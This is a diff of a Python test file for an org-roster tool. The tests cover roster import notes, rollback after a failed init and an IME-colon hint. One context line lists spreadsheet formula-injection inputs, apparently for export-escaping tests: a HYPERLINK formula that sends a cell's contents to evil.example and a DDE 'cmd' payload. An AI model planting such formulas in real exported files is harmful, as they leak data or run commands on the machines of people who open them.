@@ -151,6 +151,25 @@ def test_a_hidden_sheet_is_not_taken_for_the_roster(tmp_path: Path) -> None:
     assert sorted(p.name for p in (tmp_path / "old").glob("*.yaml")) == ["archive.yaml"]
 
 
+
+def test_heads_reporting_to_each_other_are_said_when_no_team_is_placed(tmp_path: Path) -> None:
+    run = _import(tmp_path, "r.csv", "Name,Department,Manager\nAda,Ops,Linus\nGrace,Ops,Ada\n"
+                  "Linus,Dev,Ada\nKen,Dev,Linus\n")
+    assert run.code == 0, run.stderr
+    assert run.stderr.splitlines() == [
+        "note: no parent-department column: 2 top-level teams; add one to the roster, or set "
+        "`parent:` in a team's file (a re-import keeps it)",
+        "note: left top-level, their head's manager not in one other team (or no head): Dev, "
+        "Ops; set `parent:` in their files (a re-import keeps it)"]
+
+
+def test_a_manager_who_is_no_one_in_the_roster_is_said(tmp_path: Path) -> None:
+    run = _import(tmp_path, "r.csv", ROSTER.replace("Linus,Dev,Ada", "Linus,Dev,Adda"))
+    assert run.code == 0, run.stderr
+    assert "note: 1 manager named in the roster is no one in it (by name, employee ID or email): "\
+           "Adda (r.csv:4); no lead or parent team is taken from them" in run.stderr.splitlines()
+
+
 # --- export and back --------------------------------------------------------------------------
 
 NAMES = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+1+cmd|' /C calc'!A0", "-2+3",
@@ -219,3 +238,40 @@ def test_a_hostile_ci_project_url_or_commit_gives_relative_links(
                                            "CI_COMMIT_SHA": "f00",
                                            "CI_PROJECT_DIR": str(tmp_path)}))
     assert (sound.repo_url, sound.sha) == ("https://gitlab.example.cn/a/b", "f00")
+
+
+# --- init ---------------------------------------------------------------------------------------
+
+def test_an_init_that_fails_half_way_leaves_no_folder_it_made(
+        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    from orgspec import output
+    from orgspec.adopt.init import InitError, init_repo
+
+    real, calls = output.write_text, []
+
+    def full_disk(path: str, text: str, encoding: str = "utf-8") -> None:
+        calls.append(path)
+        if len(calls) == 3:
+            raise OSError(28, "No space left on device", path)
+        real(path, text, encoding)
+
+    monkeypatch.setattr(output, "write_text", full_disk)
+    (tmp_path / "repo").mkdir()
+    with pytest.raises(InitError):
+        init_repo(str(tmp_path / "repo"), "en", "github")
+    assert len(calls) == 3
+    assert list((tmp_path / "repo").iterdir()) == []
+
+
+# --- the IME colon hint ---------------------------------------------------------------------------
+
+def test_an_ime_colon_in_a_teams_duty_is_not_told_the_teams_lead(write_org) -> None:
+    org = write_org({"ops.yaml": "- kind: Team\n  id: ops\n  name: 运营部\n  responsibilities:\n"
+                                 "    - id: live-schedule\n      name: 直播排期\n"
+                                 "      负责人：董洁\n"})
+    run = run_cli("check", str(org), "--format", "json", "--lang", "en")
+    [found] = [f for f in run.json()["findings"] if f["code"] == "IN001"]
+    assert (Path(found["file"]).name, found["line"], found["column"]) == ("ops.yaml", 7, 10)
+    assert found["hint"] == ("write `responsible: 董洁` if it does the work, or `accountable: "
+                             "董洁` if it answers for the outcome (field names are English, "
+                             "with an ASCII colon and a space)")
